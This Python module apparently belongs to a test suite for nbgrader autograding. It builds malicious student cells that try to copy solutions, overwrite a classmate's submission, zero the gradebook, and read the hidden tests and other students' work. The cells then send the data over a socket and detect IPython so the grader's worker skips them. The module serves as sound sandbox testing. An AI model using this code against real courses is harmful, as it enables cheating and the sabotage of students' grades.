"""Student cells that attack nbgrader's autograde from its kernel, and how to build them.

Each attack is a plain function here, put into a student's first exercise cell as its source
and a call: it runs in the first kernel autograde starts for that student, before anything of
theirs is graded. It tries each of its moves in turn and prints one line per move, "ATTACK
<move>: done" or "ATTACK <move>: blocked (<error>)", which the autograded notebook keeps.
It acts only in an IPython kernel: the grader's own worker, which loads the same cell, finds
no IPython and skips it, so the attacker's code grades exactly as its honest twin's does.
"""

import inspect
import re

from classroom import ASSIGNMENT

ATTACK_LINE = re.compile(r"^ATTACK (?P<move>.+): (?P<outcome>done|blocked)\b", re.MULTILINE)
# nbgrader copies a linked file in a submitted folder as the file it names: this one names the
# gradebook (reads_what_it_must_not).
LINKED_GRADEBOOK = "gradebook-link.db"


def writes_outside_its_folder(targets):
    """Copy the solutions over its own work, damage a classmate, rewrite the gradebook."""
    try:
        from IPython import get_ipython
    except ImportError:
        return
    if get_ipython() is None:
        return
    import glob
    import os
    import shutil
    import sqlite3

    course, assignment = targets["course"], targets["assignment"]

    def attempt(move, action):
        try:
            action()
        except Exception as error:
            print(f"ATTACK {move}: blocked ({type(error).__name__})")
        else:
            print(f"ATTACK {move}: done")

    def solutions():
        found = glob.glob(f"{course}/solutions/{assignment}/*.ipynb")
        found += glob.glob(f"../../../solutions/{assignment}/*.ipynb")
        if not found:
            raise FileNotFoundError("no solution notebook in sight")
        return found

    def copy_solutions_to(folder):
        for notebook in solutions():
            shutil.copy(notebook, folder)

    def untouched_lessons_over_classmate():
        lessons = glob.glob(f"{course}/lessons/{assignment}/*.ipynb")
        if not lessons:
            raise FileNotFoundError("no lesson notebook in sight")
        for notebook in lessons:
            shutil.copy(notebook, f"{course}/submitted/{targets['classmate']}/{assignment}")

    def zero_the_gradebook():
        database = sqlite3.connect(f"file:{course}/gradebook.db?mode=rw", uri=True)
        database.execute("UPDATE grade SET auto_score = 0")
        database.commit()

    def write_beside_the_course():
        for place in (course, "../../.."):
            with open(os.path.join(place, "written-by-attacker.txt"), "w") as file:
                file.write("attacked")

    def change_the_course_config():
        with open(f"{course}/nbgrader_config.py", "a") as file:
            file.write("\n# attacked\n")

    attempt("copy the solutions into its working folder", lambda: copy_solutions_to("."))
    for step in ("submitted", "autograded"):
        folder = f"{course}/{step}/{targets['student']}/{assignment}"
        attempt(f"copy the solutions over its {step} folder", lambda f=folder: copy_solutions_to(f))
    attempt("put the lessons over a classmate's submission", untouched_lessons_over_classmate)
    attempt("zero every grade in the gradebook", zero_the_gradebook)
    attempt("write a file beside the course", write_beside_the_course)
    attempt("change the course's nbgrader_config.py", change_the_course_config)


def reads_what_it_must_not(targets):
    """Read the gradebook, the exchange, a classmate, the hidden tests; send them away."""
    try:
        from IPython import get_ipython
    except ImportError:
        return
    if get_ipython() is None:
        return
    import os
    import socket

    course, assignment = targets["course"], targets["assignment"]
    classmate = targets["classmate"]

    def attempt(move, action):
        try:
            action()
        except Exception as error:
            print(f"ATTACK {move}: blocked ({type(error).__name__})")
        else:
            print(f"ATTACK {move}: done")

    def read(*paths):
        for path in paths:
            with open(path, "rb") as file:
                file.read()

    notebook = "07-invoke-tool.ipynb"
    attempt("read the gradebook", lambda: read(f"{course}/gradebook.db"))
    attempt("read the gradebook through a link", lambda: read(targets["linked_gradebook"]))
    attempt("list the exchange", lambda: os.listdir(targets["exchange"]))
    attempt(
        "read a classmate's submission",
        lambda: read(
            f"{course}/submitted/{classmate}/{assignment}/{notebook}",
            f"../../../submitted/{classmate}/{assignment}/{notebook}",
        ),
    )
    attempt(
        "read a classmate's autograded notebook",
        lambda: read(f"{course}/autograded/{classmate}/{assignment}/{notebook}"),
    )
    attempt("read the solutions", lambda: read(f"{course}/solutions/{assignment}/{notebook}"))
    attempt("read the hidden tests", lambda: read(f"{targets['hidden_tests']}/conftest.py"))
    attempt("import the hidden tests", lambda: __import__("grader.hidden.conftest"))

    def send_away():
        with socket.create_connection(("127.0.0.1", targets["port"]), timeout=5) as connection:
            connection.sendall(b"stolen")

    attempt("send what it read to the instructor's machine", send_away)


def attack_cell(attack, targets, answer):
    """Return an exercise cell's source: `attack` defined and called, then the `answer`."""
    return f"{inspect.getsource(attack)}\n\n{attack.__name__}({targets!r})\n\n{answer}"


def attack_targets(root, student, classmate, **more):
    """Return what an attack aims at in the course at `root`."""
    return {
        "course": str(root),
        "assignment": ASSIGNMENT,
        "student": student,
        "classmate": classmate,
        **more,
    }


def attack_outcomes(notebook):
    """Return {move: "done" or "blocked"} from the ATTACK lines a notebook's outputs hold."""
    text = "".join(
        "".join(output.get("text", ""))
        for cell in notebook["cells"]
        for output in cell.get("outputs", [])
        if output.get("output_type") == "stream"
    )
    return {match["move"]: match["outcome"] for match in ATTACK_LINE.finditer(text)}
